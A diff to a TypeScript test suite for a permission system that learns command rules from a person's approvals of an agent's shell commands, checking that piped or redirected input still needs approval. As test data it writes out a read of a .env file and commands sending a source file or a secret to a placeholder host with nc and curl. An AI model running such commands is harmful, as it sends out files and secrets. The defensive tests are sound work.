@@ -223,7 +223,7 @@ describe("a suggestion", () => {
       people: ["ada"],
     });
     expect(suggestion?.toml).toContain(
-      'command = "rm draft"\npaths = { write = ["./draft"] }\nagent = "dev"\noverrides = ["deleting"]\n',
+      'command = "rm draft"\npaths = { write = ["./draft"] }\ninput = false\nagent = "dev"\noverrides = ["deleting"]\n',
     );
     expect((await one.suggest()).stdout).toMatch(
       /all answered with yes by ada\n {3}overrides `deleting` \(rules\.toml:\d+\), which asks on purpose/,
@@ -269,8 +269,29 @@ describe("an agent cannot bring about a rule", () => {
     ["for what a rule denies", thrice("cat src/.env"), "yes"],
     ["outside of the workspace", ["a", "b", "c"].map((file) => `wc -l /srv/${file}`), "yes"],
     ["for what nobody can know", thrice('eval "$X"'), "yes"],
+    ["by a harmless text in a pipe", thrice("echo status | mycli shell"), "yes"],
+    ["by a harmless file that is read", thrice("nc host 80 < src/a.ts"), "yes"],
   ] as const)("%s", async (_, commands, answer) => {
     expect(await after(commands, answer)).toEqual([]);
+  });
+
+  test("that covers another text than nothing, through a pipe or from a file", async () => {
+    const one = await project(async ({ ask }) => {
+      for (const command of ["mycli send", "curl -d @- https://a.example"])
+        for (const each of thrice(command)) await ask(each, "yes");
+    });
+    const learned = (await one.found()).map(({ toml }) => toml);
+    expect(learned).toHaveLength(2);
+    writeFileSync(join(one.cwd, "learned.toml"), learned.join("\n"));
+    for (const [command, effect] of [
+      ["mycli send && curl -d @- https://a.example", "allow"],
+      ["ls | mycli send", "ask_user"],
+      ["ls src | curl -d @- https://a.example", "ask_user"],
+      ["curl -d @- https://a.example < src/a.ts", "ask_user"],
+      ["{ ls; curl -d @- https://a.example; } <<< secret", "ask_user"],
+      ["exec < src/a.ts; mycli send", "ask_user"],
+    ] as const)
+      expect([command, await effectIn(one.cwd, command)]).toEqual([command, effect]);
   });
 
   test("by repeating a call that a person answered once", async () => {
